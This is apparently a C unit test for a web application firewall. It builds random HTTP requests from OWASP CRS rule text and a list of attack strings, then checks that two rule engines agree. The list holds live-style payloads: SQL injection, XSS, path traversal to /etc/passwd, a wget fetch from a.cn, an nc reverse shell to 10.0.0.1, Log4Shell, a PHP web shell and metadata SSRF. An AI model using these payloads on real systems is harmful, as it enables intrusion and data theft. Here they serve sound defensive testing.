/* The rule sets of the field, as the gate runs them and plainly, over requests that are made of the rules' own texts and of attacks, in
 * every place and coding; ORACLE_REQUESTS says how many (300), ORACLE_SEED which, ORACLE_FILES names a folder of requests instead. */
#include "base/test.h"
#include "detect/waf/oracle_probe.h"

#include <dirent.h>
#include <glob.h>
#include <limits.h>

#include "base/clock.h"
#include "base/file.h"

enum { POOL_MAX = 16 * 1024 * 1024, FILE_MAX = 4 * 1024 * 1024, REQUEST_MAX = 256 * 1024 };

static const char *const attacks[] = {"1' or '1'='1' -- ", "1 UNION/**/SELECT password FROM users#",
	"';exec xp_cmdshell 'dir'--", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
	"javascript:alert(document.cookie)", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\0.png",
	"; cat /etc/passwd", "$(wget http://a.cn/x)", "`id`", "|nc -e /bin/sh 10.0.0.1 80", "${jndi:ldap://a.cn/x}",
	"<?php system($_GET['c']); ?>", "phpinfo()", "{{7*7}}", "%{(#a=@java.lang.Runtime@getRuntime())}",
	"http://169.254.169.254/latest/meta-data", "sleep(5)", "benchmark(1000000,md5(1))", "\r\nSet-Cookie: a=b",
	"() { :; }; echo", "rO0ABXNyABFqYXZh", "<!ENTITY x SYSTEM 'file:///a'>", "__proto__[a]=1",
	"constructor.prototype", "admin' AND 1=1", "\xe5\xbc\xa0\xe4\xb8\x89 union select", "%u0027or%u00271",
	"&#x3c;script&#x3e;", "\\u003cscript\\u003e", "cGhwaW5mbygp", "0x3c736372697074", "a\x01\x7f\xff",
	"\xc0\xaf..\xc0\xaf", ""};

struct maker {
	uint64_t state;
	wq_str pool; /* the rules' own files */
	struct wq_buf request;
};

static uint32_t roll(struct maker *m, uint32_t below)
{
	m->state ^= m->state << 13;
	m->state ^= m->state >> 7;
	m->state ^= m->state << 17;
	return (uint32_t)(m->state >> 32) % below;
}

/* ---- texts ---- */

static void put_plain(struct maker *m, struct wq_buf *text)
{
	for (uint32_t i = 0, n = 1 + roll(m, 3); i < n; i++) {
		if (roll(m, 2))
			wq_buf_add(text, wq_str_c(attacks[roll(m, WQ_COUNT(attacks))]));
		else
			wq_buf_add(
				text, wq_str_head(wq_str_from(m->pool, roll(m, (uint32_t)m->pool.n)), 2 + roll(m, 60)));
		if (roll(m, 3) == 0)
			wq_buf_byte(text, (uint8_t)roll(m, 256));
	}
}

static void change_bytes(struct maker *m, struct wq_buf *text)
{
	for (uint32_t i = 0, n = roll(m, 4); i < n && text->len > 0; i++) {
		uint8_t *at = (uint8_t *)text->data + roll(m, (uint32_t)text->len);
		*at = roll(m, 2) ? *at ^ 0x20 : (uint8_t)roll(m, 256);
	}
}

static void put_coded(struct maker *m, wq_str text, bool whole, struct wq_buf *out)
{
	uint32_t part = roll(m, 4), way = whole ? 0 : roll(m, 6);

	for (size_t i = 0; i < text.n; i++) {
		uint8_t c = (uint8_t)text.p[i];
		bool plain = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
		if (plain || (!whole && roll(m, 4) < part))
			wq_buf_byte(out, c);
		else if (way < 2)
			wq_buf_printf(out, "%%%02x", c);
		else
			wq_buf_printf(out,
				way == 2           ? "%%25%02X"
					: way == 3 ? "&#x%x;"
					: way == 4 ? "\\x%02x"
						   : "%%u00%02x",
				c);
	}
}

/* A text that may stand in a line. */
static void put_text(struct maker *m, bool whole, struct wq_buf *out)
{
	WQ_BUF(text, REQUEST_MAX);
	WQ_BUF(coded, REQUEST_MAX);

	put_plain(m, &text);
	change_bytes(m, &text);
	put_coded(m, wq_buf_str(&text), whole, &coded);
	for (size_t i = 0; i < coded.len; i++)
		wq_buf_byte(out, strchr("\r\n \t", coded.data[i]) && coded.data[i] ? '+' : (uint8_t)coded.data[i]);
}

/* ---- requests ---- */

static void put_pairs(struct maker *m, struct wq_buf *out)
{
	for (uint32_t i = 0, n = roll(m, 5); i < n; i++) {
		wq_buf_printf(out, "%s", i ? "&" : "");
		if (roll(m, 4))
			wq_buf_printf(out, "%c", 'a' + (int)roll(m, 4));
		else
			put_text(m, false, out);
		wq_buf_byte(out, '=');
		put_text(m, roll(m, 2), out);
	}
}

static void put_json(struct maker *m, struct wq_buf *out)
{
	wq_buf_printf(out, "{\"a\":[1,");
	for (uint32_t i = 0, n = 1 + roll(m, 4); i < n; i++) {
		WQ_BUF(text, REQUEST_MAX);
		put_text(m, false, &text);
		wq_buf_printf(out, "%s{\"k%u\":\"", i ? "," : "", roll(m, 3));
		for (size_t k = 0; k < text.len; k++)
			wq_buf_byte(out, strchr("\"\\", text.data[k]) ? '\'' : (uint8_t)text.data[k]);
		wq_buf_printf(out, "\"}");
	}
	wq_buf_printf(out, "]}");
}

static void put_parts(struct maker *m, struct wq_buf *out)
{
	for (uint32_t i = 0, n = 1 + roll(m, 3); i < n; i++) {
		wq_buf_printf(out, "--b\r\nContent-Disposition: form-data; name=\"");
		put_text(m, true, out);
		if (roll(m, 2)) {
			wq_buf_printf(out, "\"; filename=\"");
			put_text(m, true, out);
		}
		wq_buf_printf(out, "\"\r\n\r\n");
		put_plain(m, out);
		wq_buf_printf(out, "\r\n");
	}
	wq_buf_printf(out, "--b--\r\n");
}

static void put_xml(struct maker *m, struct wq_buf *out)
{
	wq_buf_printf(out, "<a b=\"");
	put_text(m, true, out);
	wq_buf_printf(out, "\"><c><![CDATA[");
	put_plain(m, out);
	wq_buf_printf(out, "]]></c></a>");
}

static const struct {
	const char *type;
	void (*put)(struct maker *m, struct wq_buf *out);
} bodies[] = {
	{"application/x-www-form-urlencoded", put_pairs},
	{"application/json", put_json},
	{"multipart/form-data; boundary=b", put_parts},
	{"text/xml", put_xml},
	{"text/plain", put_plain},
	{"image/png", put_plain},
};

static void put_headers(struct maker *m, struct wq_buf *out)
{
	static const char *const names[] = {"User-Agent", "Referer", "Cookie", "Accept", "X-Forwarded-For", "Range",
		"Content-Encoding", "X-Other", "Authorization", "Content-Type", "Transfer-Encoding"};

	wq_buf_printf(out, "Host: www.example.gov.cn\r\n");
	for (uint32_t i = 0, n = roll(m, 4); i < n; i++) {
		wq_buf_printf(out, "%s: ", names[roll(m, WQ_COUNT(names))]);
		put_text(m, false, out);
		wq_buf_printf(out, "\r\n");
	}
}

static wq_str make(struct maker *m)
{
	static const char *const methods[] = {"GET", "POST", "POST", "PUT", "HEAD", "OPTIONS", "TRACE"};
	struct wq_buf *out = &m->request;
	uint32_t body = roll(m, 2 * WQ_COUNT(bodies));

	wq_buf_clear(out);
	wq_buf_printf(out, "%s /", methods[roll(m, WQ_COUNT(methods))]);
	if (roll(m, 3) == 0)
		put_text(m, false, out);
	wq_buf_byte(out, '?');
	put_pairs(m, out);
	wq_buf_printf(out, " HTTP/1.1\r\n");
	put_headers(m, out);
	if (body < WQ_COUNT(bodies))
		wq_buf_printf(out, "Content-Type: %s\r\n", bodies[body].type);
	wq_buf_printf(out, "\r\n");
	if (body < WQ_COUNT(bodies))
		bodies[body].put(m, out);
	assert_ok(wq_buf_err(out));
	return wq_buf_str(out);
}

/* ---- programs ---- */

static struct wq_waf_program *load(const char *const *paths, size_t n, const char *level, bool plain)
{
	const struct wq_waf_setting settings[] = {
		{WQ_S("blocking_paranoia_level"), wq_str_c(level)}, {WQ_S("paranoia_level"), wq_str_c(level)}};
	const struct wq_waf_load what = {.paths = paths,
		.paths_n = n,
		.source = &wq_sec_source_files,
		.settings = settings,
		.settings_n = WQ_COUNT(settings),
		.no_fold = plain,
		.plain = plain};
	struct wq_waf_program *program;

	assert_ok(wq_waf_program_new(&what, &program));
	return program;
}

static void read_pool(const char *pattern, struct wq_buf *pool)
{
	glob_t found;

	if (glob(pattern, 0, NULL, &found) != 0)
		fail_msg("%s", pattern);
	for (size_t i = 0; i < found.gl_pathc; i++) {
		assert_ok(wq_file_read(&wq_fs_system, found.gl_pathv[i], pool));
	}
	globfree(&found);
	assert_ok(wq_buf_err(pool));
}

struct tally {
	unsigned asked, given_up, matched;
};

static void judge(const struct oracle *oracle, wq_str request, const char *what, struct tally *tally)
{
	static const wq_str answer = WQ_S_INIT(
		"HTTP/1.1 500 Oops\r\nContent-Type: text/html\r\n\r\n<h1>ORA-01756: quoted string</h1>");
	WQ_BUF(fast, PROBE_LOG_MAX);
	WQ_BUF(plain, PROBE_LOG_MAX);
	enum oracle_answer same = oracle_ask(oracle, request, answer, &fast, &plain);

	tally->asked++;
	tally->given_up += same == ORACLE_GIVEN_UP;
	tally->matched += wq_str_find(wq_buf_str(&fast), WQ_S(" phase 2 ")) >= 0;
	if (same == ORACLE_DIFFERENT)
		fail_msg("%s\n%.*s\nfast:\n%splainly:\n%s", what, WQ_S_ARG(request), wq_buf_cstr(&fast),
			wq_buf_cstr(&plain));
}

static uint64_t number(const char *name, uint64_t otherwise)
{
	const char *text = getenv(name);
	uint64_t value;

	return text && wq_str_to_u64(wq_str_c(text), UINT32_MAX, &value) ? value : otherwise;
}

static void judge_made(const struct oracle *oracle, wq_str pool, struct tally *tally)
{
	struct maker m = {.state = number("ORACLE_SEED", 1) * 0x9e3779b97f4a7c15,
		.pool = pool,
		.request = {.max_bytes = REQUEST_MAX}};
	char name[32];

	for (uint64_t i = 0, n = number("ORACLE_REQUESTS", 300); i < n; i++) {
		(void)snprintf(name, sizeof name, "request %u", (unsigned)i);
		judge(oracle, make(&m), name, tally);
	}
	wq_buf_done(&m.request);
}

static void judge_files(const struct oracle *oracle, const char *folder, struct tally *tally)
{
	char path[PATH_MAX];
	DIR *dir = opendir(folder);

	assert_non_null(dir);
	for (struct dirent *entry; (entry = readdir(dir));) {
		WQ_BUF(request, FILE_MAX);
		if (!wq_str_ends(wq_str_c(entry->d_name), WQ_S(".http")))
			continue;
		(void)snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
		assert_ok(wq_file_read(&wq_fs_system, path, &request));
		judge(oracle, wq_buf_str(&request), path, tally);
	}
	closedir(dir);
}

static void judge_set(const char *const *paths, size_t n, const char *folder, const char *level)
{
	struct oracle oracle = {.fast = load(paths, n, level, false), .plain = load(paths, n, level, true)};
	struct wq_buf pool = {.max_bytes = POOL_MAX};
	struct tally tally = {0};
	char pattern[PATH_MAX];

	assert_ok(wq_waf_worker_new(NULL, &oracle.worker));
	(void)snprintf(pattern, sizeof pattern, "%s/*", folder);
	read_pool(pattern, &pool);
	if (getenv("ORACLE_FILES"))
		judge_files(&oracle, getenv("ORACLE_FILES"), &tally);
	else
		judge_made(&oracle, wq_buf_str(&pool), &tally);
	print_message("%s, level %s: %u asked, %u of them matched a rule of phase 2, %u given up\n", folder, level,
		tally.asked, tally.matched, tally.given_up);
	assert_true(tally.matched * 2 > tally.asked && tally.given_up * 20 <= tally.asked);
	wq_waf_worker_free(&oracle.worker);
	wq_waf_program_unref(&oracle.fast);
	wq_waf_program_unref(&oracle.plain);
	wq_buf_done(&pool);
}

static void judge_crs(const char *level)
{
	char setup[PATH_MAX], rules[PATH_MAX], folder[PATH_MAX];

	if (!getenv("WEIQUE_CRS")) {
		judge_set((const char *const[]){"/usr/share/modsecurity-crs/owasp-crs.load"}, 1,
			"/usr/share/modsecurity-crs/rules", level);
		return;
	}
	(void)snprintf(setup, sizeof setup, "%s/crs-setup.conf.example", getenv("WEIQUE_CRS"));
	(void)snprintf(folder, sizeof folder, "%s/rules", getenv("WEIQUE_CRS"));
	(void)snprintf(rules, sizeof rules, "%s/rules/*.conf", getenv("WEIQUE_CRS"));
	judge_set((const char *const[]){setup, rules}, 2, folder, level);
}

static void first_level(void **state)
{
	(void)state;
	judge_crs("1");
}

static void last_level(void **state)
{
	(void)state;
	judge_crs("4");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(first_level),
		cmocka_unit_test(last_level),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
